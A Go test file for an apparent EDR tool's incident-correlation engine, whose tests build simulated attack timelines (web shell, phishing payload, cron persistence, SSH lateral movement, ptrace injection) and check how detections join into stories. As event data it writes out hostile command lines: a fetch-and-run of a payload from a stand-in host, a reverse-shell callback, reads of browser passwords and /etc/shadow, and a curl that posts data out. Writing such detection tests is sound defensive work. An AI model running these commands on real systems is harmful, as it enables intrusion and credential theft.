package incident_test

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/google/uuid"

	"github.com/yagura-edr/yagura/internal/detection"
	"github.com/yagura-edr/yagura/internal/event"
	"github.com/yagura-edr/yagura/internal/incident"
	"github.com/yagura-edr/yagura/internal/tenant"
)

// tape writes events by hand, as a sensor would have: authored, in order of time.
type tape struct {
	host   event.HostID
	seq    uint64
	now    int64
	events []event.Stamped
	dets   []detection.Detection
	procs  map[string]*event.Process
	parent map[string]string
	times  map[event.ID]int // of the first event of a row of like ones
}

var (
	hostA      = event.HostID(uuid.MustParse("01900000-0000-7000-8000-00000000000a"))
	hostB      = event.HostID(uuid.MustParse("01900000-0000-7000-8000-00000000000b"))
	tenantMain = tenant.ID(uuid.MustParse("01900000-0000-7000-8000-0000000000ff"))
)

const t0 = int64(1_795_000_000_000_000)

func newTape(h event.HostID) *tape {
	t := &tape{host: h, now: t0, procs: map[string]*event.Process{}, parent: map[string]string{}}
	t.add(event.Event{Kind: event.SensorStart, Hostname: "web-07"})
	t.running("init", "", 1, "/sbin/init", "/sbin/init")
	return t
}

func (t *tape) add(e event.Event) event.Stamped {
	t.seq++
	t.now += 20_000
	e.OS, e.Time, e.BootNS = event.Linux, t.now, uint64(t.now)*1000
	s := event.Stamped{ID: event.ID{Host: t.host, Stream: 7, Lane: event.Critical, Seq: t.seq}, Event: &e}
	t.events = append(t.events, s)
	return s
}

func (t *tape) wait(seconds float64) { t.now += int64(seconds * 1e6) }

func (t *tape) process(name, parent string, pid uint64, path, cmd string) *event.Process {
	p := &event.Process{Key: event.LinuxKey(uint64(t.now), uint32(pid), 9), PID: pid, Path: path, CommandLine: cmd, UserName: "web", UserID: "33", Cwd: "/srv"}
	t.procs[name], t.parent[name] = p, parent
	return p
}

func (t *tape) up(name string) event.Process {
	if p := t.procs[t.parent[name]]; p != nil {
		return *p
	}
	return event.Process{}
}

func (t *tape) running(name, parent string, pid uint64, path, cmd string) event.Stamped {
	p := t.process(name, parent, pid, path, cmd)
	return t.add(event.Event{Kind: event.ProcessRunning, Actor: *p, Parent: t.up(name)})
}

// start is fork and exec of a new process.
func (t *tape) start(name, parent string, pid uint64, path, cmd string) event.Stamped {
	p := t.process(name, parent, pid, path, cmd)
	child := *t.procs[parent]
	child.Key, child.PID = p.Key, pid
	t.add(event.Event{Kind: event.ProcessFork, Actor: *t.procs[parent], Parent: t.up(parent), Target: child})
	return t.add(event.Event{Kind: event.ProcessExec, Actor: *p, Parent: *t.procs[parent]})
}

// startFile is start of a file with an identity.
func (t *tape) startFile(name, parent string, pid uint64, path, cmd, inode string) event.Stamped {
	p := t.process(name, parent, pid, path, cmd)
	p.VolumeID, p.FileID = "0:25", inode
	return t.add(event.Event{Kind: event.ProcessExec, Actor: *p, Parent: *t.procs[parent]})
}

// like starts n programs one after another that do nothing else.
func (t *tape) like(n int, parent string, pid uint64, path, cmd string) {
	for i := range n {
		s := t.running("", parent, pid+uint64(i), path, cmd)
		s.Event.Kind = event.ProcessExec
		s.Event.Actor.Key = event.LinuxKey(s.Event.BootNS, uint32(pid)+uint32(i), 9)
		if i == 0 {
			if t.times == nil {
				t.times = map[event.ID]int{}
			}
			t.times[s.ID] = n
		}
	}
	delete(t.procs, "")
}

func (t *tape) exit(name string) event.Stamped {
	return t.add(event.Event{Kind: event.ProcessExit, Actor: *t.procs[name], Parent: t.up(name)})
}

func (t *tape) write(name, path, inode string) event.Stamped {
	return t.add(event.Event{Kind: event.FileCreate, Flags: event.FlagCreated, Actor: *t.procs[name], Parent: t.up(name), File: event.File{Path: path, VolumeID: "0:25", FileID: inode}})
}

func (t *tape) net(k event.Kind, name, local, remote string) event.Stamped {
	l, r := netip.MustParseAddrPort(local), netip.MustParseAddrPort(remote)
	return t.add(event.Event{
		Kind: k, Initiated: k == event.NetConnect, Protocol: "tcp", Actor: *t.procs[name], Parent: t.up(name),
		LocalAddr: l.Addr(), LocalPort: uint64(l.Port()), RemoteAddr: r.Addr(), RemotePort: uint64(r.Port()),
	})
}

func (t *tape) connect(name, remote string) event.Stamped {
	return t.net(event.NetConnect, name, "10.1.2.3:40100", remote)
}

func (t *tape) reads(name, path string) event.Stamped {
	return t.add(event.Event{Kind: event.FileReadCredential, Actor: *t.procs[name], Parent: t.up(name), File: event.File{Path: path}})
}

func (t *tape) detect(s event.Stamped, title string, sev detection.Severity, attack ...string) {
	id := "rule-" + strings.ReplaceAll(title, " ", "-")
	t.dets = append(t.dets, detection.Detection{
		ID: detection.NewID(id, "1", s.ID), Tenant: tenantMain, RuleID: id, RuleVersion: "1", Title: detection.Said{En: title, Ja: title + "(日本語)"},
		Severity: sev, ATTACK: attack, Event: s, Detected: s.Event.Time,
	})
}

func (t *tape) ref(name string) string {
	return event.Ref{Host: t.host, Key: t.procs[name].Key}.String()
}

func (t *tape) story() incident.Story {
	return incident.FromEvents(t.events, t.dets, incident.Context{})
}

func members(s incident.Story) map[string]bool {
	out := map[string]bool{}
	for _, n := range s.Nodes {
		context := false
		for _, f := range n.Flags {
			context = context || f == incident.FlagContext
		}
		if n.Kind == incident.NodeProcess && !context {
			out[n.Ref] = true
		}
	}
	return out
}

func wantMembers(t *testing.T, tp *tape, s incident.Story, in, out []string) {
	t.Helper()
	m := members(s)
	for _, n := range in {
		if !m[tp.ref(n)] {
			t.Errorf("%s (%s) is not in the story", n, tp.procs[n].CommandLine)
		}
	}
	for _, n := range out {
		if m[tp.ref(n)] {
			t.Errorf("%s (%s) is in the story; want it outside", n, tp.procs[n].CommandLine)
		}
	}
}

func wantEdge(t *testing.T, s incident.Story, kind string, n int) {
	t.Helper()
	got := 0
	for _, e := range s.Edges {
		if e.Kind == kind {
			got++
			if len(e.EventIDs) == 0 || e.Reason.En == "" || e.Reason.Ja == "" {
				t.Errorf("edge %s has no event or no reason: %+v", kind, e)
			}
		}
	}
	if got < n {
		t.Errorf("%d %s edges; want at least %d\n%s", got, kind, n, dump(s))
	}
}

func dump(s incident.Story) string {
	var b strings.Builder
	name := map[string]string{}
	for _, n := range s.Nodes {
		name[n.Ref] = n.Kind + ":" + n.Label
		fmt.Fprintf(&b, "node %-10s %-20s %v <- %s\n", n.Kind, n.Label, n.Flags, n.RowParent)
	}
	for _, e := range s.Edges {
		fmt.Fprintf(&b, "edge %-15s %s -> %s %s %s\n", e.Kind, name[e.From], name[e.To], e.Basis, e.Confidence)
	}
	for _, a := range s.Answers {
		for _, x := range a.Sentences {
			fmt.Fprintf(&b, "%-8s %s\n         %s\n", a.Answer, x.Text.En, x.Text.Ja)
		}
	}
	fmt.Fprintf(&b, "entry %s: stopped %v\n", s.Entry.Route, s.Entry.Stopped)
	return b.String()
}

// webShell: a service takes a connection, starts a shell, which downloads, runs from memory and calls back.
func webShell() *tape {
	t := newTape(hostA)
	t.start("systemd", "init", 50, "/usr/lib/systemd/systemd", "/usr/lib/systemd/systemd")
	t.start("service", "systemd", 100, "/opt/app/httpd", "/opt/app/httpd -p 8080")
	t.net(event.NetListen, "service", "0.0.0.0:8080", "0.0.0.0:0")
	t.wait(4000)
	t.net(event.NetAccept, "service", "10.1.2.3:8080", "203.0.113.9:51000")
	sh := t.start("sh", "service", 101, "/usr/bin/dash", "sh -c curl -so /dev/shm/k http://203.0.113.9/k; chmod +x /dev/shm/k; /dev/shm/k")
	t.detect(sh, "service started a shell", detection.High, "T1505.003", "tactic:persistence")
	t.start("curl", "sh", 102, "/usr/bin/curl", "curl -so /dev/shm/k http://203.0.113.9/k")
	t.connect("curl", "203.0.113.9:80")
	t.write("curl", "/dev/shm/k", "77")
	t.exit("curl")
	run := t.startFile("payload", "sh", 104, "/dev/shm/k", "/dev/shm/k", "77")
	t.detect(run, "program run from memory", detection.High, "T1059.004", "tactic:execution")
	t.connect("payload", "203.0.113.9:4444")
	t.start("shell", "payload", 105, "/usr/bin/bash", "bash -i")
	t.start("id", "shell", 106, "/usr/bin/id", "id")
	// beside it: another client's page, and the service's own helper
	t.start("thumbnail", "service", 110, "/usr/bin/convert", "convert a.png b.png")
	return t
}

func TestWebShellIsOneStoryFromTheServiceOn(t *testing.T) {
	tp := webShell()
	s := tp.story()
	wantMembers(t, tp, s, []string{"service", "sh", "curl", "payload", "shell", "id"}, []string{"thumbnail", "systemd", "init"})
	wantEdge(t, s, incident.EdgeSpawn, 5)
	wantEdge(t, s, incident.EdgeWroteExec, 2)
	wantEdge(t, s, incident.EdgeDownloaded, 1)
	if s.Entry.Route != "exploited_service" || len(s.Entry.Chain) != 2 || s.Entry.Confidence != "high" {
		t.Errorf("entry = %+v; want exploited_service with 2 steps, high", s.Entry)
	}
	if t.Failed() {
		t.Log(dump(s))
	}
}

// spearPhish: mail client → stub → running browser → file → payload → credentials → out.
func spearPhish(open bool) *tape {
	t := newTape(hostA)
	t.start("shell", "init", 20, "/usr/bin/gnome-shell", "gnome-shell")
	t.start("mail", "shell", 30, "/usr/bin/thunderbird", "thunderbird")
	t.start("music", "mail", 31, "/usr/bin/aplay", "aplay new-mail.wav")
	browser := "stub"
	if open {
		browser = "browser"
		t.start("browser", "shell", 40, "/usr/lib/chromium/chromium", "/usr/lib/chromium/chromium")
		t.start("net", "browser", 41, "/usr/lib/chromium/chromium", "/usr/lib/chromium/chromium --type=utility --utility-sub-type=network")
		t.wait(1000)
	}
	t.start("opener", "mail", 50, "/usr/bin/dash", "/bin/sh /usr/bin/xdg-open http://files.example/invoice")
	t.start("stub", "opener", 51, "/usr/lib/chromium/chromium", "/usr/lib/chromium/chromium http://files.example/invoice")
	if open {
		t.exit("stub")
	} else {
		t.start("net", "stub", 52, "/usr/lib/chromium/chromium", "/usr/lib/chromium/chromium --type=utility --utility-sub-type=network")
	}
	t.add(event.Event{Kind: event.DNSQuery, Actor: *t.procs["net"], Parent: t.up("net"), Query: "files.example"})
	c := t.connect("net", "198.51.100.7:80")
	c.Event.RemoteName = "files.example"
	t.write(browser, "/home/u/Downloads/invoice.crdownload", "500")
	t.add(event.Event{
		Kind: event.FileRename, Actor: *t.procs[browser], Parent: t.up(browser), File: event.File{Path: "/home/u/Downloads/invoice", VolumeID: "0:25", FileID: "500"},
		OldFile: event.File{Path: "/home/u/Downloads/invoice.crdownload"},
	})
	t.wait(20)
	run := t.startFile("payload", "shell", 60, "/home/u/Downloads/invoice", "/home/u/Downloads/invoice", "500")
	t.detect(run, "downloaded file run", detection.Medium, "T1204.002", "tactic:execution")
	t.start("cat", "payload", 61, "/usr/bin/cat", "cat /home/u/.config/chromium/Default/Login Data")
	r := t.reads("cat", "/home/u/.config/chromium/Default/Login Data")
	t.detect(r, "browser passwords read", detection.High, "T1555.003", "tactic:credential-access")
	t.start("post", "payload", 62, "/usr/bin/curl", "curl --data-binary @- http://198.51.100.7/drop")
	t.connect("post", "198.51.100.7:8081")
	return t
}

func TestSpearPhishIsOneStoryFromTheMailOn(t *testing.T) {
	for _, open := range []bool{false, true} {
		t.Run(fmt.Sprintf("browser open %v", open), func(t *testing.T) {
			tp := spearPhish(open)
			s := tp.story()
			wantMembers(t, tp, s, []string{"mail", "opener", "stub", "payload", "cat", "post"}, []string{"music", "shell"})
			wantEdge(t, s, incident.EdgeHandoff, 2)
			wantEdge(t, s, incident.EdgeDownloaded, 1)
			wantEdge(t, s, incident.EdgeWroteExec, 2)
			if s.Entry.Route != "mail_link" {
				t.Errorf("entry route %q; want mail_link", s.Entry.Route)
			}
			if t.Failed() {
				t.Log(dump(s))
			}
		})
	}
}

func TestHandOffByTimeAloneDoesNotJoin(t *testing.T) {
	tp := spearPhish(true)
	var kept []event.Stamped
	for _, e := range tp.events {
		if e.Event.Kind != event.DNSQuery && e.Event.Kind != event.NetConnect {
			kept = append(kept, e)
		}
	}
	tp.events = kept
	s := tp.story()
	wantMembers(t, tp, s, []string{"payload", "cat"}, []string{"mail", "opener"})
	if s.Entry.Route == "mail_link" {
		t.Errorf("entry route %q although nothing shows that the browser asked for the address", s.Entry.Route)
	}
	if len(s.Related) == 0 {
		t.Error("the hand-off by time alone is not offered as possibly related")
	}
	if t.Failed() {
		t.Log(dump(s))
	}
}

// persistence: a dropper writes a cron table; cron runs the stage later.
func persistence() *tape {
	t := newTape(hostA)
	t.running("cron", "init", 15, "/usr/sbin/cron", "/usr/sbin/cron -f")
	t.start("login", "init", 21, "/usr/bin/bash", "-bash")
	t.start("dropper", "login", 70, "/usr/bin/bash", "bash /tmp/x/dropper.sh")
	w := t.start("tee", "dropper", 71, "/usr/bin/tee", "tee /var/spool/cron/crontabs/web")
	f := t.write("tee", "/var/spool/cron/crontabs/web", "900")
	_ = w
	t.detect(f, "cron table written", detection.Medium, "T1053.003", "tactic:persistence")
	t.start("cp", "dropper", 72, "/usr/bin/cp", "cp a /tmp/x/stage")
	t.write("cp", "/tmp/x/stage", "901")
	t.add(event.Event{Kind: event.FileChmod, Actor: *t.procs["cp"], Parent: t.up("cp"), File: event.File{Path: "/tmp/x/stage", Mode: 0o755}}) // by path alone, as sensors see it
	t.exit("dropper")
	t.wait(50)
	t.start("crondaily", "cron", 80, "/usr/bin/dash", "/bin/sh -c run-parts /etc/cron.daily")
	t.start("cronsh", "cron", 81, "/usr/bin/dash", "/bin/sh -c /tmp/x/stage")
	t.startFile("stage", "cronsh", 82, "/tmp/x/stage", "/tmp/x/stage", "901")
	return t
}

// What cron ran is told by the file's writer, also when the attacker has removed the file.
func TestCronStageIsTiedToItsTableAfterTheFileIsGone(t *testing.T) {
	tp := persistence()
	tp.add(event.Event{Kind: event.FileDelete, Actor: *tp.procs["stage"], Parent: tp.up("stage"), File: event.File{Path: "/tmp/x/stage", VolumeID: "0:25", FileID: "901"}})
	s := tp.story()
	for _, e := range s.Edges {
		if e.Kind == incident.EdgeScheduled && e.To == tp.ref("cronsh") {
			return
		}
	}
	t.Errorf("no edge from the cron table to what cron started\n%s", dump(s))
}

func TestCronStageBelongsToItsFirstStage(t *testing.T) {
	tp := persistence()
	s := tp.story()
	wantMembers(t, tp, s, []string{"dropper", "tee", "cp", "cronsh", "stage"}, []string{"crondaily", "cron"})
	wantEdge(t, s, incident.EdgeScheduled, 2)
	if s.Entry.Route != "unknown" || s.Entry.Stopped.Why.Ja == "" {
		t.Errorf("entry = %+v; want unknown with its reason", s.Entry)
	}
	if t.Failed() {
		t.Log(dump(s))
	}
}

func TestEverySentenceGoesWithAnyEventItCites(t *testing.T) {
	for name, tp := range map[string]*tape{"web shell": webShell(), "spear phish, closed": spearPhish(false), "spear phish, open": spearPhish(true), "persistence": persistence(), "host to host": twoHosts(), "injected": injected(), "lateral": lateral(true), "controller": controller(), "in a job": attackInCI()} {
		t.Run(name, func(t *testing.T) {
			whole := tp.story()
			cited := map[string]bool{}
			n := 0
			for _, a := range whole.Answers {
				for _, s := range a.Sentences {
					if !s.Unknown && len(s.EventIDs) == 0 {
						t.Errorf("%s: %q cites nothing", a.Answer, s.Text.En)
					}
					if s.Text.Ja == "" {
						t.Errorf("%s: %q has no Japanese", a.Answer, s.Text.En)
					}
					for _, id := range s.EventIDs {
						cited[id] = true
						n++
					}
				}
			}
			if n < 6 {
				t.Fatalf("only %d citations", n)
			}
			for id := range cited {
				var rest []event.Stamped
				for _, e := range tp.events {
					if e.ID.String() != id {
						rest = append(rest, e)
					}
				}
				less := incident.FromEvents(rest, tp.dets, incident.Context{})
				for i, a := range whole.Answers {
					for _, s := range a.Sentences {
						if !slices.Contains(s.EventIDs, id) {
							continue
						}
						for _, l := range less.Answers[i].Sentences {
							if l.Text.En == s.Text.En || l.Text.Ja == s.Text.Ja {
								t.Errorf("%s: %q stands without event %s that it cites", a.Answer, s.Text.En, id)
							}
						}
					}
				}
				for _, a := range whole.Without(map[string]bool{id: true}).Answers {
					if len(a.Sentences) == 0 {
						t.Errorf("%s is empty without %s; want it to say unknown", a.Answer, id)
					}
				}
			}
		})
	}
}

// twoHosts: a web shell on one host logs on to the next.
func twoHosts() *tape {
	t := webShell()
	ssh := t.start("ssh", "shell", 120, "/usr/bin/ssh", "ssh root@10.1.2.4")
	_ = ssh
	t.connect("ssh", "10.1.2.4:22")
	b := newTape(hostB)
	b.now = t.now
	b.start("sshd", "init", 200, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]")
	b.net(event.NetAccept, "sshd", "10.1.2.4:22", "10.1.2.3:40100")
	b.start("session", "sshd", 201, "/usr/sbin/sshd", "sshd: root [priv]")
	b.start("rootsh", "session", 202, "/usr/bin/bash", "-bash")
	b.start("cat", "rootsh", 203, "/usr/bin/cat", "cat /etc/shadow")
	b.detect(b.reads("cat", "/etc/shadow"), "password file read", detection.High, "T1003.008", "tactic:credential-access")
	t.events = append(t.events, b.events...)
	t.dets = append(t.dets, b.dets...)
	for k, v := range b.procs {
		t.procs["b."+k] = v
	}
	return t
}

func TestConnectionSeenOnBothSidesJoinsTwoHosts(t *testing.T) {
	s := twoHosts().story()
	wantEdge(t, s, incident.EdgeHostToHost, 1)
	wantEdge(t, s, incident.EdgeLogon, 1)
	hosts := map[string]bool{}
	for _, n := range s.Nodes {
		hosts[n.Host] = true
	}
	if len(hosts) != 2 {
		t.Errorf("the story is on %d hosts; want 2\n%s", len(hosts), dump(s))
	}
	if s.Entry.Route != "exploited_service" {
		t.Errorf("entry route %q; want that of the first host\n%s", s.Entry.Route, dump(s))
	}
}

func injected() *tape {
	t := newTape(hostA)
	t.running("shell", "init", 20, "/usr/bin/gnome-shell", "gnome-shell")
	t.start("victim", "shell", 30, "/usr/bin/ssh-agent", "ssh-agent")
	t.start("term", "shell", 39, "/usr/bin/xterm", "xterm")
	t.start("tool", "term", 40, "/home/u/tool", "/home/u/tool 30")
	e := t.add(event.Event{Kind: event.MemPtrace, Request: 16, Actor: *t.procs["tool"], Parent: t.up("tool"), Target: *t.procs["victim"]})
	t.detect(e, "process taken over", detection.High, "T1055.008", "tactic:credential-access")
	t.start("child", "victim", 50, "/usr/bin/dash", "sh -c id")
	return t
}

func TestInjectionJoinsTheVictimAndWhatItDoesNext(t *testing.T) {
	tp := injected()
	s := tp.story()
	wantMembers(t, tp, s, []string{"tool", "victim", "child"}, []string{"shell", "term"})
	wantEdge(t, s, incident.EdgeInjected, 1)
}

func TestLogonIsTheEntry(t *testing.T) {
	tp := newTape(hostA)
	tp.start("sshd", "init", 200, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]")
	tp.net(event.NetAccept, "sshd", "10.1.2.4:22", "198.51.100.9:50022")
	tp.start("session", "sshd", 201, "/usr/sbin/sshd", "sshd: ops [priv]")
	tp.start("bash", "session", 202, "/usr/bin/bash", "-bash")
	tp.start("cat", "bash", 203, "/usr/bin/cat", "cat /etc/shadow")
	tp.detect(tp.reads("cat", "/etc/shadow"), "password file read", detection.High, "T1003.008")
	s := tp.story()
	if s.Entry.Route != "logon" || !strings.Contains(s.Entry.Chain[0].Text.En, "198.51.100.9") {
		t.Errorf("entry = %+v; want logon from 198.51.100.9\n%s", s.Entry, dump(s))
	}
}

func TestAttachmentIsTheEntry(t *testing.T) {
	tp := newTape(hostA)
	tp.start("shell", "init", 20, "/usr/bin/gnome-shell", "gnome-shell")
	tp.start("mail", "shell", 30, "/usr/bin/thunderbird", "thunderbird")
	tp.write("mail", "/home/u/Downloads/order.run", "600")
	run := tp.startFile("payload", "shell", 60, "/home/u/Downloads/order.run", "/home/u/Downloads/order.run", "600")
	tp.detect(run, "downloaded file run", detection.High, "T1204.002")
	s := tp.story()
	if s.Entry.Route != "attachment" {
		t.Errorf("entry route %q; want attachment\n%s", s.Entry.Route, dump(s))
	}
	wantMembers(t, tp, s, []string{"payload", "mail"}, []string{"shell"})
}

func TestBlindHostIsNamedInTheReason(t *testing.T) {
	tp := persistence()
	s := incident.FromEvents(tp.events, tp.dets, incident.Context{Holes: []incident.Hole{{Host: hostA.String(), Class: "network", From: t0 - 1, State: "blind", Reason: "probe not attached"}}})
	if s.Entry.Route != "unknown" || !strings.Contains(s.Entry.Stopped.Why.En, "blind for network") || len(s.Holes) != 1 {
		t.Errorf("entry %+v with %d holes; want unknown because the host was blind", s.Entry, len(s.Holes))
	}
}
